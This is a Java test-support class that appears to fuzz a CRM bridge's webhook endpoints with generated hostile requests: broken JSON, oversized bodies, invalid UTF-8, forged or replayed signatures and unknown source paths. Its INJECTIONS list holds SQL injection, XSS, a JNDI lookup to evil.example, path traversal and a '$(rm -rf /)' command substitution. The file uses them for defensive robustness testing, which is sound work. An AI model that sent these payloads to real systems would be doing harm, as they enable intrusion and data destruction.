package io.crmbridge.reliability;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;

import io.crmbridge.outbound.receive.SignatureCheck;

import io.crmbridge.testsupport.TestHttp;

/**
 * Generated hostile deliveries to {@code POST /events/{source}}: broken JSON, huge bodies, wrong types, bad, missing
 * and replayed signatures, Unicode edge cases, NUL bytes, injection strings, wrong content types and unknown
 * sources. Each request names its category; every one must be answered 202 or 4xx.
 */
final class HostileRequests {

    record Request(String category, String path, Map<String, String> headers, byte[] body) {
    }

    static final List<String> INJECTIONS = List.of("'; DROP TABLE raw_event; --", "\" OR 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=1",
            "$(rm -rf /)", "`id`", "{\"$gt\": \"\"}", "\\u0000", "\r\nX-Injected: 1", "hs_object_id:1 OR *",
            "{\"filterGroups\":[]}", "%s%s%s%n", "\u202Egnp.exe", "javascript:alert(1)");

    static final List<String> UNICODE = List.of("Zoë Ångström", "李小龍", "مرحبا بالعالم", "🙂🚀👩‍👩‍👧‍👦", "e\u0301\u0301\u0301\u0301",
            "\uFEFFbom", "\u200B\u200C\u200D", "\uD83D", "\uDC00lone", "\uFFFF\uFFFE", "Ⅻ㎞ﬁ", "\u0085\u2028\u2029",
            "x".repeat(5000), "ǅǈǋ", "\u0000nul\u0000", "\u0007\u001b[31m", "ß".repeat(300));

    static final List<String> DOMAINS = List.of("xn--" + "a".repeat(80) + ".example", "a".repeat(64) + ".example",
            ("label." + "b".repeat(60) + ".").repeat(5) + "example", "müller\u00AD.example", "☃.example", "exa_mple.com",
            "-bad-.example", "localhost", "127.0.0.1", "[::1]", "ex ample.com", "ex%41mple.com", "", ".", "..example",
            "xn--zz.example", "\u0000.example", "e\u0301xample.com", "ＥＸＡＭＰＬＥ.com");

    static final List<String> EMAILS = List.of("not-an-email", "@example.org", "a@", "a@b", "a..b@example.org",
            "\"quoted\"@example.org", "x".repeat(300) + "@example.org", "ünï@exämple.org", "a@example.org\u0000",
            "a@example.org\r\nBcc: b@example.org", "", "  ", "a@[127.0.0.1]", "a+b@example.org");

    private final String bridgeUrl;
    private final String tag;
    private final Map<String, BiFunction<Random, Integer, Request>> kinds = new LinkedHashMap<>();
    private final List<String> weighted = new ArrayList<>();
    private volatile Request lastSigned;

    HostileRequests(String bridgeUrl, String tag) {
        this.bridgeUrl = bridgeUrl;
        this.tag = tag;
        kind("hostile-fields", 20, this::hostileFields);
        kind("wrong-types", 10, this::wrongTypes);
        kind("broken-json", 10, this::brokenJson);
        kind("nul-bytes", 6, this::nulBytes);
        kind("invalid-utf8", 5, this::invalidUtf8);
        kind("huge-body", 1, this::hugeBody);
        kind("deep-nesting", 2, this::deepNesting);
        kind("bad-bearer", 6, this::badBearer);
        kind("missing-auth", 5, (r, i) -> new Request("missing-auth", "/events/webform", json(), lead(r, i)));
        kind("payments-signed", 6, this::paymentsSigned);
        kind("payments-bad-signature", 5, this::paymentsBadSignature);
        kind("payments-stale-timestamp", 4, this::paymentsStale);
        kind("replayed-signature", 4, this::replayed);
        kind("bookings-signed", 4, this::bookingsSigned);
        kind("bookings-bad-signature", 3, this::bookingsBadSignature);
        kind("wrong-content-type", 4, this::wrongContentType);
        kind("empty-body", 2, (r, i) -> new Request("empty-body", "/events/webform", bearer(), new byte[0]));
        kind("unknown-source", 3, this::unknownSource);
    }

    private void kind(String name, int weight, BiFunction<Random, Integer, Request> make) {
        kinds.put(name, make);
        for (int i = 0; i < weight; i++) {
            weighted.add(name);
        }
    }

    List<String> categories() {
        return List.copyOf(kinds.keySet());
    }

    /** Request {@code i}: the first ones one of each kind (so even a short run sends every kind), then by weight. */
    Request next(Random random, int i) {
        String kind = i < kinds.size() ? List.copyOf(kinds.keySet()).get(i) : weighted.get(random.nextInt(weighted.size()));
        return kinds.get(kind).apply(random, i);
    }

    // --- authentic senders, hostile content ------------------------------------------------------------------

    private static <T> T pick(Random r, List<T> values) {
        return values.get(r.nextInt(values.size()));
    }

    private static String quote(String s) {
        return TestHttp.toJson(s);
    }

    private String hostileText(Random r) {
        return r.nextBoolean() ? pick(r, INJECTIONS) : pick(r, UNICODE);
    }

    private byte[] lead(Random r, int i) {
        return ("{\"submission_id\": " + quote("h-" + tag + "-" + i) + ", \"email\": " + quote("h" + i + "-" + tag + "@example.org")
                + ", \"name\": " + quote(hostileText(r)) + ", \"company\": " + quote(hostileText(r)) + ", \"website\": "
                + quote(pick(r, DOMAINS)) + ", \"message\": " + quote(hostileText(r)) + ", \"consent\": true}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private Request hostileFields(Random r, int i) {
        String body = "{\"submission_id\": " + quote(r.nextInt(10) == 0 ? hostileText(r) : "hf-" + tag + "-" + i)
                + ", \"email\": " + quote(r.nextInt(3) == 0 ? pick(r, EMAILS) : "hf" + i + "-" + tag + "@example.org")
                + ", \"name\": " + quote(hostileText(r)) + ", \"phone\": " + quote(r.nextBoolean() ? hostileText(r) : "+1" + r.nextLong())
                + ", \"company\": " + quote(hostileText(r)) + ", \"website\": " + quote(pick(r, DOMAINS))
                + ", \"budget\": " + quote(hostileText(r)) + ", \"urgency\": " + quote(r.nextBoolean() ? "high" : hostileText(r))
                + ", \"message\": " + quote(hostileText(r)) + ", \"consent\": " + (r.nextBoolean() ? "true" : "\"" + hostileText(r).replace("\"", "") + "\"")
                + ", \"stack\": [" + quote(hostileText(r)) + "]"
                + ", \"routing\": {\"qualification_status\": " + quote(hostileText(r)) + ", \"lead_score\": "
                + pick(r, List.of("72", "1e309", "-1e400", "99999999999999999999999999999999", "NaN", "0.1e-400", "\"72\""))
                + ", \"routing_tier\": " + quote(hostileText(r)) + ", \"target_pipeline\": " + quote(hostileText(r)) + "}"
                + ", \"ai\": {\"model\": " + quote(hostileText(r)) + ", \"confidence\": " + pick(r, List.of("0.5", "7", "-3", "1e999"))
                + ", \"summary\": " + quote(hostileText(r)) + "}}";
        return new Request("hostile-fields", "/events/webform", bearer(), body.getBytes(StandardCharsets.UTF_8));
    }

    private Request wrongTypes(Random r, int i) {
        String[] values = { "123", "true", "null", "[]", "{}", "[1,2,3]", "{\"a\": {\"b\": []}}", "-0", "1.5e300" };
        String body = "{\"submission_id\": " + pick(r, List.of(values)) + ", \"email\": " + pick(r, List.of(values))
                + ", \"name\": " + pick(r, List.of(values)) + ", \"website\": " + pick(r, List.of(values))
                + ", \"consent\": " + pick(r, List.of(values)) + ", \"routing\": " + pick(r, List.of(values))
                + ", \"ai\": " + pick(r, List.of(values)) + ", \"stack\": " + pick(r, List.of(values)) + "}";
        if (r.nextInt(5) == 0) {
            body = pick(r, List.of("[]", "123", "\"a string\"", "null", "true", "[{\"email\": \"a@b.c\"}]"));
        }
        return new Request("wrong-types", "/events/webform", bearer(), body.getBytes(StandardCharsets.UTF_8));
    }

    private Request brokenJson(Random r, int i) {
        String whole = new String(lead(r, i), StandardCharsets.UTF_8);
        String body = switch (r.nextInt(6)) {
            case 0 -> whole.substring(0, r.nextInt(whole.length()));
            case 1 -> whole.replace("\"", "'");
            case 2 -> whole + "}}}";
            case 3 -> "{\"email\": \"a@b.c\",}";
            case 4 -> "{\"email\": \"\\uZZZZ\"}";
            default -> "{" + "\"a\":".repeat(50);
        };
        return new Request("broken-json", "/events/webform", bearer(), body.getBytes(StandardCharsets.UTF_8));
    }

    private Request nulBytes(Random r, int i) {
        byte[] lead = lead(r, i);
        byte[] body;
        if (r.nextBoolean()) {
            // NUL escaped inside JSON strings: valid JSON, hostile text
            body = new String(lead, StandardCharsets.UTF_8).replace("@example.org", "\\u0000@example.org")
                    .replace("\"consent\"", "\"co\\u0000nsent\"").getBytes(StandardCharsets.UTF_8);
        } else {
            body = lead.clone();
            for (int k = 0; k < 3; k++) {
                body[r.nextInt(body.length)] = 0;
            }
        }
        return new Request("nul-bytes", "/events/webform", bearer(), body);
    }

    private Request invalidUtf8(Random r, int i) {
        String text = new String(lead(r, i), StandardCharsets.UTF_8);
        int at = text.indexOf("\"name\": \"") + 9;
        byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] tail = text.substring(at).getBytes(StandardCharsets.UTF_8);
        byte[] bad = pick(r, List.of(new byte[] { (byte) 0xC3, 0x28 }, new byte[] { (byte) 0xFF, (byte) 0xFE },
                new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0xF8, (byte) 0x88, (byte) 0x80 },
                new byte[] { (byte) 0xC0, (byte) 0xAF }));
        byte[] body = new byte[head.length + bad.length + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        System.arraycopy(bad, 0, body, head.length, bad.length);
        System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
        if (r.nextInt(4) == 0) {
            byte[] bom = { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF };
            byte[] withBom = new byte[bom.length + body.length];
            System.arraycopy(bom, 0, withBom, 0, 3);
            System.arraycopy(body, 0, withBom, 3, body.length);
            body = withBom;
        }
        return new Request("invalid-utf8", "/events/webform", bearer(), body);
    }

    private Request hugeBody(Random r, int i) {
        int size = r.nextBoolean() ? 1_048_576 + 1 + r.nextInt(3_000_000) : 1_000_000 + r.nextInt(40_000);
        String filler = "x".repeat(size);
        String body = "{\"submission_id\": \"huge-" + tag + "-" + i + "\", \"email\": \"huge" + i + "@example.org\", \"message\": \""
                + filler + "\", \"consent\": true}";
        return new Request("huge-body", "/events/webform", bearer(), body.getBytes(StandardCharsets.UTF_8));
    }

    private Request deepNesting(Random r, int i) {
        int depth = 500 + r.nextInt(5000);
        String body = "{\"submission_id\": \"deep-" + tag + "-" + i + "\", \"email\": \"deep" + i + "@example.org\", \"ai\": "
                + "[".repeat(depth) + "]".repeat(depth) + "}";
        return new Request("deep-nesting", "/events/webform", bearer(), body.getBytes(StandardCharsets.UTF_8));
    }

    // --- who sends it ---------------------------------------------------------------------------------------

    private static Map<String, String> json() {
        return Map.of("Content-Type", "application/json");
    }

    private static Map<String, String> bearer() {
        return Map.of("Content-Type", "application/json", "Authorization", "Bearer " + BridgeUnderTest.WEBFORM_SECRET);
    }

    private Request badBearer(Random r, int i) {
        String token = pick(r, List.of("wrong", BridgeUnderTest.WEBFORM_SECRET + "x", BridgeUnderTest.WEBFORM_SECRET.toUpperCase(),
                "", BridgeUnderTest.PAYMENTS_SECRET, "' OR 1=1 --"));
        String scheme = pick(r, List.of("Bearer ", "Basic ", "bearer  ", ""));
        return new Request("bad-bearer", "/events/webform", Map.of("Content-Type", "application/json", "Authorization",
                scheme + token), lead(r, i));
    }

    private byte[] payment(Random r, int i) {
        return ("{\"id\": \"evt_" + tag + "_" + i + "\", \"type\": \"checkout.session.completed\", \"created\": "
                + Instant.now().getEpochSecond() + ", \"data\": {\"object\": {\"id\": \"cs_" + tag + "_" + i
                + "\", \"amount_total\": " + pick(r, List.of("4900", "-1", "1e400", "\"lots\"", "null")) + ", \"currency\": "
                + quote(pick(r, List.of("usd", "xxx", hostileText(r)))) + ", \"customer_details\": {\"email\": "
                + quote(r.nextBoolean() ? "pay" + i + "-" + tag + "@example.org" : pick(r, EMAILS)) + ", \"name\": "
                + quote(hostileText(r)) + "}}}}").getBytes(StandardCharsets.UTF_8);
    }

    private Request paymentsSigned(Random r, int i) {
        byte[] body = payment(r, i);
        Request signed = new Request("payments-signed", "/events/payments", paymentHeaders(body, Instant.now().getEpochSecond()), body);
        lastSigned = signed;
        return signed;
    }

    private static Map<String, String> paymentHeaders(byte[] body, long ts) {
        byte[] content = (ts + "." + new String(body, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
        String sig = HexFormat.of().formatHex(SignatureCheck.sign(BridgeUnderTest.PAYMENTS_SECRET.getBytes(StandardCharsets.UTF_8), content));
        return Map.of("Content-Type", "application/json", "X-Payment-Timestamp", Long.toString(ts), "X-Payment-Signature", sig);
    }

    private Request paymentsBadSignature(Random r, int i) {
        byte[] body = payment(r, i);
        Map<String, String> headers = new LinkedHashMap<>(paymentHeaders(body, Instant.now().getEpochSecond()));
        switch (r.nextInt(4)) {
            case 0 -> headers.put("X-Payment-Signature", "00" + headers.get("X-Payment-Signature").substring(2));
            case 1 -> headers.remove("X-Payment-Signature");
            case 2 -> headers.put("X-Payment-Signature", pick(r, List.of("zz", "", "sha256=abc", "' OR 1=1")));
            default -> headers.remove("X-Payment-Timestamp");
        }
        return new Request("payments-bad-signature", "/events/payments", headers, body);
    }

    /** Signed correctly, but long ago (outside the tolerance) or in the future: a replay. */
    private Request paymentsStale(Random r, int i) {
        byte[] body = payment(r, i);
        long ts = Instant.now().getEpochSecond() + pick(r, List.of(-3600L, -86400L, 7200L, -301L));
        return new Request("payments-stale-timestamp", "/events/payments", paymentHeaders(body, ts), body);
    }

    /** A signed delivery sent again byte for byte (within the tolerance: accepted, then DUPLICATE). */
    private Request replayed(Random r, int i) {
        Request last = lastSigned;
        if (last == null) {
            return paymentsSigned(r, i);
        }
        return new Request("replayed-signature", last.path(), last.headers(), last.body());
    }

    private byte[] booking(Random r, int i) {
        return ("{\"event\": \"invitee.created\", \"created_at\": \"" + Instant.now() + "\", \"payload\": {\"uri\": "
                + quote("https://calendly.example/invitees/" + tag + "-" + i) + ", \"email\": "
                + quote(r.nextBoolean() ? "book" + i + "-" + tag + "@example.org" : pick(r, EMAILS)) + ", \"name\": "
                + quote(hostileText(r)) + ", \"scheduled_event\": {\"start_time\": "
                + quote(pick(r, List.of("2026-12-01T10:00:00Z", "not a time", "99999-01-01T00:00:00Z", ""))) + "}}}")
                .getBytes(StandardCharsets.UTF_8);
    }

    private Map<String, String> bookingHeaders(byte[] body, long tsMillis) {
        String uri = bridgeUrl + "/events/bookings";
        byte[] content = ("POST" + uri + new String(body, StandardCharsets.UTF_8) + tsMillis).getBytes(StandardCharsets.UTF_8);
        String sig = Base64.getEncoder().encodeToString(
                SignatureCheck.sign(BridgeUnderTest.BOOKINGS_SECRET.getBytes(StandardCharsets.UTF_8), content));
        return Map.of("Content-Type", "application/json", "X-HubSpot-Request-Timestamp", Long.toString(tsMillis),
                "X-HubSpot-Signature-v3", sig);
    }

    private Request bookingsSigned(Random r, int i) {
        byte[] body = booking(r, i);
        return new Request("bookings-signed", "/events/bookings", bookingHeaders(body, Instant.now().toEpochMilli()), body);
    }

    private Request bookingsBadSignature(Random r, int i) {
        byte[] body = booking(r, i);
        Map<String, String> headers = new LinkedHashMap<>(bookingHeaders(body, Instant.now().toEpochMilli()));
        if (r.nextBoolean()) {
            headers.put("X-HubSpot-Signature-v3", Base64.getEncoder().encodeToString(new byte[32]));
        } else {
            body = (new String(body, StandardCharsets.UTF_8) + " ").getBytes(StandardCharsets.UTF_8); // signed a different body
        }
        return new Request("bookings-bad-signature", "/events/bookings", headers, body);
    }

    private Request wrongContentType(Random r, int i) {
        String type = pick(r, List.of("text/plain", "application/x-www-form-urlencoded", "application/xml",
                "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/jsonx", "*/*"));
        return new Request("wrong-content-type", "/events/webform", Map.of("Content-Type", type, "Authorization",
                "Bearer " + BridgeUnderTest.WEBFORM_SECRET), lead(r, i));
    }

    private Request unknownSource(Random r, int i) {
        String path = pick(r, List.of("/events/nope", "/events/WEBFORM", "/events/webform%00", "/events/..%2fadmin",
                "/events/%27%3B%20DROP%20TABLE%20raw_event", "/events/" + "a".repeat(2000), "/events/web%E2%80%AEform"));
        return new Request("unknown-source", path, bearer(), lead(r, i));
    }
}
